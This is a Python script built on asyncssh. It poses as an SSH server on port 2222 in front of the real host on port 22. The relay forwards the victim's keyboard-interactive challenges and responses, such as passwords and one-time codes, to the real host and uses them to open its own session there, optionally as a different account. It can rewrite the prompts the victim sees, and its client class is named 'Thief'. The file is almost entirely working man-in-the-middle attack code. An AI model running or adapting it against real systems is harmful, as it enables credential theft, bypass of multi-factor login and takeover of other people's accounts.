#!/usr/bin/python3
"""relay.py: what stands between a client and its host, and passes on all that it is asked and answered (port 2222 to 22).

The client takes it for the host. What it learns it uses at once: a session of its own at the host, whose commands it prints.
RELAY_ACCOUNT: the account that it enters there, if not the client's. RELAY_EDIT: a sed-like OLD=NEW for the prompts it shows.
"""
import asyncio
import os
import sys
import warnings

warnings.filterwarnings("ignore")
import asyncssh  # noqa: E402


class Thief(asyncssh.SSHClient):
    """The relay at the host."""

    def __init__(self, questions, answers):
        self.questions, self.answers = questions, answers

    def kbdint_auth_requested(self):
        return ""

    async def kbdint_challenge_received(self, name, instructions, lang, prompts):
        await self.questions.put(prompts)
        return await self.answers.get()


class Relay(asyncssh.SSHServer):
    """The relay before the client."""

    def __init__(self):
        self.questions, self.answers = asyncio.Queue(), asyncio.Queue()

    def begin_auth(self, username):
        return True

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, key):
        print("key accepted", key.get_fingerprint(), flush=True)
        return os.environ.get("RELAY_KEYS") == "enough"

    def kbdint_auth_supported(self):
        return True

    async def get_kbdint_challenge(self, username, lang, submethods):
        asyncio.ensure_future(self.enter(os.environ.get("RELAY_ACCOUNT", username)))
        return await self.next()

    async def validate_kbdint_response(self, username, responses):
        await self.answers.put(list(responses))
        return await self.next()

    async def next(self):
        prompts = await self.questions.get()
        if isinstance(prompts, bool):
            return prompts
        old, _, new = os.environ.get("RELAY_EDIT", "=").partition("=")
        return "", "", "", [(text.replace(old, new) if old else text, echo) for text, echo in prompts]

    async def enter(self, account):
        try:
            connection, _ = await asyncssh.create_connection(
                lambda: Thief(self.questions, self.answers), "127.0.0.1", 22, username=account, known_hosts=None,
                client_keys=["/tmp/relay-key"], agent_path=None, config=None)
            result = await connection.run("id -un; sleep 2")
            print("entered", result.stdout, result.exit_status, flush=True)
        except (asyncssh.Error, OSError) as error:
            print("not entered:", error, flush=True)
        await self.questions.put(False)


async def main():
    await asyncssh.create_server(Relay, "127.0.0.1", 2222, server_host_keys=["/tmp/relay-host-key"])
    print("listening", flush=True)
    await asyncio.Event().wait()


asyncio.run(main())
sys.exit(0)
